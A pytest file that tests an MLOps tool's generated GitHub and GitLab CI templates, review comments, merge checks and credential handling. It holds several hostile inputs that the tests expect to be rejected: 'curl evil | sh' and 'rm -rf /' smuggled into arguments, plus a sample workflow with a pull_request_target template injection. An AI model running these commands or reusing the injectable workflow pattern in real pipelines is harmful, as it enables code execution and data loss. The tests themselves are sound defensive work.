"""The CI/CD templates and the review comment, without servers.

- The comment's Markdown for a promote and a refuse verdict of the real gate, against golden
  files (tests/support/golden/ci_comment_*.md; rewrite them with PLANETS_UPDATE_GOLDEN=1 and review
  the diff).
- The GitHub workflows ``ci init`` writes pass actionlint and zizmor (both pinned in the lock);
  every ``planets-mlops`` command line in the GitHub and GitLab templates parses with the real
  CLI parser, so a template cannot call a flag that does not exist.
- The merge-time checks, the schedules file and the template writer on bad input.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from planets_mlops.app import cicd
from planets_mlops.app.review import MARKER, to_dvc_tables, to_markdown
from planets_mlops.errors import DataError, InvalidParameterError, NotFoundError
from tests.support.ci_cases import review

GOLDEN = Path(__file__).resolve().parents[1] / "support" / "golden"
BIN = Path(sys.executable).parent


def _golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("PLANETS_UPDATE_GOLDEN"):
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8"), f"{name} changed; rerun with PLANETS_UPDATE_GOLDEN=1"


@pytest.mark.parametrize("case", ["promote", "refuse"])
def test_comment_markdown_is_golden(case):
    r = review(case)
    assert r.promote is (case == "promote")
    text = to_markdown(r, "github")
    _golden(f"ci_comment_{case}.md", text)
    assert text.startswith(MARKER + "\n## Model gate: ")
    # The pieces the issue asks for, read back from the document.
    assert "McNemar p" in text and "95 % paired interval" in text
    assert "| true \\ predicted |" in text and "DVC hash" in text
    assert "](https://kubeflow.example.com/pipeline/#/runs/details/3f2a9c1e-run)" in text
    assert "[MLflow run](https://mlflow.example.com/" in text and "Open-set guard: recognises 95.0 %" in text
    if case == "promote":
        assert "| Titan | 6 | 0.8333 |" in text and "> [!TIP]" in text
    else:
        assert re.search(
            r"\| Mars \| 10 \| 1\.0000 \| 0\.2000 \| -0\.8000 \|.*\| 0\.007812 \| \*\*worse\*\* \|", text
        )
        assert "> [!CAUTION]" in text and "New classes: none." in text


def test_comment_flavors_and_dvc_tables():
    r = review("refuse")
    plain, gitlab = to_markdown(r, "markdown"), to_markdown(r, "gitlab")
    assert MARKER not in plain and "<details>" not in plain and "[!" not in plain
    assert gitlab.startswith(MARKER) and "<details>" in gitlab and "[!CAUTION]" not in gitlab
    _golden("ci_dvc_refuse.md", to_dvc_tables(r))
    with pytest.raises(InvalidParameterError, match="--format"):
        to_markdown(r, "html")


def test_table_cells_cannot_break_the_table():
    r = review("refuse")
    hostile = type(r)(**{**r.__dict__, "classes": ["Ma|rs\nx", *r.classes[1:]]})
    text = to_markdown(hostile, "markdown")
    assert "Ma\\|rs x" in text


def _rendered(tmp_path: Path, provider: str) -> Path:
    files = cicd.render_templates(provider, "planets-mlops[tracking,deploy]==0.1.0")
    cicd.write_templates(files, tmp_path)
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    return tmp_path


def test_github_workflows_pass_actionlint_and_zizmor(tmp_path):
    repo = _rendered(tmp_path, "github")
    workflows = sorted((repo / ".github/workflows").glob("*.yml"))
    assert [p.name for p in workflows] == [
        "planets-merge.yml", "planets-pull-request.yml", "planets-schedules.yml",
    ]  # fmt: skip
    lint = subprocess.run([str(BIN / "actionlint"), "-no-color"], cwd=repo, capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    audit = subprocess.run(
        [
            str(BIN / "zizmor"),
            "--offline",
            "--persona",
            "pedantic",
            "--no-progress",
            "--format",
            "plain",
            *map(str, workflows),
        ],
        capture_output=True,
        text=True,
    )
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert "No findings" in audit.stdout + audit.stderr


def test_the_linters_do_catch_a_bad_workflow(tmp_path):
    # Guards the test above: the same calls fail on a workflow with an injection and a typo.
    repo = _rendered(tmp_path, "github")
    bad = repo / ".github/workflows/bad.yml"
    bad.write_text(
        "name: bad\non: pull_request_target\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-24.04\n"
        '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n'
        "      - uses: actions/checkout@v4\n        with:\n          fetch-deph: 1\n"
    )
    assert subprocess.run([str(BIN / "actionlint"), str(bad)], cwd=repo, capture_output=True).returncode != 0
    audit = subprocess.run([str(BIN / "zizmor"), "--offline", str(bad)], capture_output=True, text=True)
    assert audit.returncode != 0 and "template-injection" in audit.stdout + audit.stderr


def test_no_template_uses_pull_request_target_or_a_key():
    for provider in cicd.PROVIDERS:
        for name, text in cicd.render_templates(provider).items():
            assert "pull_request_target" not in text.split("No `pull_request_target`")[0], name
            assert "credentials_json" not in text and "private_key" not in text, name


STUB = """#!/bin/sh
# Stands in for the command named by $0: records its argv, one argument per line, and answers
# like the real one where a later step reads the answer.
name=$(basename "$0")
{ printf '%s\\n' "$name"; for a in "$@"; do printf '%s\\n' "$a"; done; printf '\\036\\n'; } >> "$STUB_LOG"
case "$name $1 $2" in
  "planets-mlops run "*) echo "run_id=run-1" ;;
  "planets-mlops ci merged-request") printf 'number=7\\nhead_sha=%s\\n' "$CI_COMMIT_SHA" ;;
esac
exit 0
"""


def _scripts(provider: str) -> list[tuple[str, str]]:
    """(where, shell script) of every step or job script in a provider's templates."""
    out = []
    for name, text in cicd.render_templates(provider).items():
        if not name.endswith(".yml"):
            continue
        doc = yaml.safe_load(text)
        jobs = (
            doc.get("jobs") if provider == "github" else {k: v for k, v in doc.items() if isinstance(v, dict)}
        )
        for job_name, job in jobs.items():
            for step in job.get("steps", []):
                if "run" in step:
                    out.append((f"{name}:{job_name}:{step.get('name', step.get('id'))}", step["run"]))
            for key in ("before_script", "script"):
                if isinstance(job.get(key), list):
                    out.append((f"{name}:{job_name}:{key}", "\n".join(job[key])))
    return out


@pytest.mark.parametrize("provider", cicd.PROVIDERS)
def test_every_template_command_parses_with_the_real_cli(provider, tmp_path):
    """Each script runs in bash with planets-mlops and gh stubbed; every call must parse."""
    from planets_mlops.app.cli import build_parser

    stubs = tmp_path / "bin"
    stubs.mkdir()
    for name in ("planets-mlops", "gh", "python"):
        (stubs / name).write_text(STUB)
        (stubs / name).chmod(0o755)
    log = tmp_path / "calls"
    env = {
        "PATH": f"{stubs}:/usr/bin:/bin",
        "STUB_LOG": str(log),
        "HOME": str(tmp_path),
        **{k: str(tmp_path / k) for k in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY")},
        **{
            k: "x"
            for k in (
                "PR_NUMBER", "CI_MERGE_REQUEST_IID", "RUN_ID", "VERSION", "KFP_UI", "GITHUB_REPOSITORY",
                "KFP_AUDIENCE", "GCP_WIF_AUDIENCE", "GCP_SERVICE_ACCOUNT", "DATA_REPO_URL", "KFP_EXPERIMENT",
                "SERVING_NAME", "SERVING_NAMESPACE", "LABEL_STUDIO_PROJECT",
            )
        },
        "HEAD_SHA": "a" * 40, "CI_COMMIT_SHA": "a" * 40, "GITHUB_SHA": "b" * 40, "REVIEWED_SHA": "a" * 40,
        "PIPELINE": "training", "CI_MERGE_REQUEST_LABELS": "train-model", "CI_PROJECT_DIR": str(tmp_path),
        "CONCLUSION": "success", "TITLE": "t", "ID_TOKEN": "t", "GITLAB_OIDC_TOKEN": "t",
    }  # fmt: skip
    (tmp_path / "report.md").write_text("<!-- m -->\n## Model gate: PROMOTE\n")
    (tmp_path / "merged.md").write_text("shipped\n")
    scripts = _scripts(provider)
    assert len(scripts) >= 6
    for where, script in scripts:
        done = subprocess.run(
            ["bash", "-e", "-c", script], cwd=tmp_path, env=env, capture_output=True, text=True
        )
        assert done.returncode == 0, (where, done.stderr)
    calls = [c.strip("\n").split("\n") for c in log.read_text().split("\036\n") if c.strip()]
    seen = set()
    parser = build_parser()
    for name, *argv in calls:
        if name != "planets-mlops":
            continue
        if argv[:2] == ["schedule", "sync"]:
            argv = ["schedule-sync", *argv[2:]]
        try:
            parser.parse_args(argv)
        except SystemExit as exc:
            pytest.fail(f"{provider}: planets-mlops {shlex.join(argv)} does not parse (exit {exc.code})")
        seen.add(" ".join(argv[:2]) if argv[0] == "ci" else argv[0])
    assert {"compile", "upload", "run", "report", "ci record", "ci promote", "schedule-sync"} <= seen, seen


def test_init_writes_files_and_keeps_existing_ones(tmp_path):
    written = cicd.write_templates(cicd.render_templates("gitlab", "-e ."), tmp_path)
    assert sorted(p.relative_to(tmp_path).as_posix() for p in written) == [
        ".gitlab-ci.yml", ".planets/schedules.yaml",
    ]  # fmt: skip
    assert 'PLANETS_MLOPS_SPEC: "-e ."' in (tmp_path / ".gitlab-ci.yml").read_text()
    with pytest.raises(DataError, match="--force"):
        cicd.write_templates(cicd.render_templates("gitlab"), tmp_path)
    with pytest.raises(InvalidParameterError, match="--provider"):
        cicd.render_templates("jenkins")
    with pytest.raises(InvalidParameterError, match="--install-spec"):
        cicd.render_templates("github", 'x"; curl evil | sh; "')


def _info(**tags: str) -> dict:
    base = {
        "planets.ci.commit": "a" * 40,
        "planets.data_commit": "d" * 40,
        "planets.gate_promote": "True",
        "planets.bento_tag": "planets:v2",
        "planets.bento_uri": "gs://b/planets.bento",
    }
    return {"version": "2", "tags": {**base, **tags}}


def test_merge_checks_name_every_problem():
    same = lambda a, b: True  # noqa: E731
    ok = dict(merged_commit="b" * 40, reviewed_commit="a" * 40, data_rev="main", trees_equal=same)
    assert cicd.merge_problems(_info(), {"data_rev": "main"}, **ok) == []
    # A commit id matches the recorded data commit even when the run was given a branch.
    assert cicd.merge_problems(_info(), {"data_rev": "main"}, **{**ok, "data_rev": "d" * 12}) == []
    problems = cicd.merge_problems(
        _info(**{"planets.gate_promote": "False", "planets.bento_tag": ""}),
        {"data_rev": "v1"},
        **{**ok, "trees_equal": lambda a, b: False},
    )
    text = "; ".join(problems)
    assert "trees differ" in text and "declares main" in text and "kept production" in text
    assert "no bento" in text and len(problems) == 4
    wrong = cicd.merge_problems(_info(), {"data_rev": "main"}, **{**ok, "reviewed_commit": "c" * 40})
    assert wrong and "not " + "c" * 40 in wrong[0]
    with pytest.raises(InvalidParameterError, match="--merged-commit"):
        cicd.check_commit("--merged-commit", "main; rm -rf /")


def test_same_tree_compares_commits_of_the_checkout(tmp_path):
    git = shutil.which("git")
    assert git

    def run(*a):
        return subprocess.run([git, "-C", str(tmp_path), *a], check=True, capture_output=True, text=True)

    run("init", "-q")
    run("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "one")
    first = run("rev-parse", "HEAD").stdout.strip()
    run("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "same tree")
    second = run("rev-parse", "HEAD").stdout.strip()
    (tmp_path / "f").write_text("x")
    run("add", "f")
    run("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "other tree")
    third = run("rev-parse", "HEAD").stdout.strip()
    assert cicd.same_tree(tmp_path, first, second) and not cicd.same_tree(tmp_path, first, third)
    with pytest.raises(NotFoundError, match="fetch-depth"):
        cicd.same_tree(tmp_path, first, "f" * 40)


def test_schedules_file_is_checked_entry_by_entry(tmp_path):
    path = tmp_path / "schedules.yaml"
    path.write_text(cicd.render_templates("github")[cicd.SCHEDULES_FILE])
    experiment, entries = cicd.load_schedules(path)
    assert experiment == "planets-schedules" and [e.name for e in entries] == ["monitoring-hourly"]
    argv = cicd.schedule_argv(entries[0], experiment, ["--host", "h"])
    assert argv[:6] == ["schedule", "monitoring", "--cron", "0 0 * * * *", "--job-name", "monitoring-hourly"]
    assert 'model_version="production"' in argv and argv[-2:] == ["--host", "h"]
    for body, match in [
        ("schedules:\n  - {name: a, pipeline: monitoring}\n", r"\['cron'\]"),
        ("schedules:\n  - {name: A_b, pipeline: monitoring, cron: '0 0 * * * *'}\n", "lower-case"),
        ("schedules:\n  - {name: a, pipeline: m, cron: '0 0 * * * *', colour: red}\n", "colour"),
        ("schedules:\n  - {name: a, pipeline: m, cron: 'every day'}\n", "cron"),
        (
            "schedules:\n  - {name: a, pipeline: m, cron: '0 0 * * * *'}\n"
            "  - {name: a, pipeline: m, cron: '0 0 * * * *'}\n",
            "once",
        ),
        ("schedules: [\n", "YAML"),
    ]:
        path.write_text(body)
        with pytest.raises(InvalidParameterError, match=match):
            cicd.load_schedules(path)
    with pytest.raises(NotFoundError, match="ci init"):
        cicd.load_schedules(tmp_path / "missing.yaml")


def test_gitlab_keyless_credentials_hold_no_key(tmp_path):
    from planets_mlops.app import ci_provider

    audience = (
        "//iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/gitlab/providers/planets"
    )
    out = ci_provider.write_gcp_credentials("header.payload.sig", tmp_path / "gcp.json", audience,
                                            "planets-ci-pr@proj.iam.gserviceaccount.com")  # fmt: skip
    config = json.loads(out.read_text())
    assert config["type"] == "external_account" and config["audience"] == audience
    assert config["credential_source"] == {"file": str(tmp_path / "gcp.token")}
    assert config["service_account_impersonation_url"].endswith(
        "/serviceAccounts/planets-ci-pr@proj.iam.gserviceaccount.com:generateAccessToken"
    )
    assert "private_key" not in out.read_text()
    assert (tmp_path / "gcp.token").read_text() == "header.payload.sig"
    assert (
        oct(out.stat().st_mode & 0o777) == "0o600"
        and oct((tmp_path / "gcp.token").stat().st_mode & 0o777) == "0o600"
    )
    with pytest.raises(InvalidParameterError, match="--audience"):
        ci_provider.gcp_credentials(tmp_path / "t", "https://example.com", "a@b.iam.gserviceaccount.com")
    with pytest.raises(InvalidParameterError, match="--service-account"):
        ci_provider.gcp_credentials(tmp_path / "t", audience, "someone@example.com")
    with pytest.raises(InvalidParameterError, match="GITLAB_API_TOKEN"):
        ci_provider.gitlab_note("1", "body", env={"CI_API_V4_URL": "https://gitlab.example.com/api/v4"})
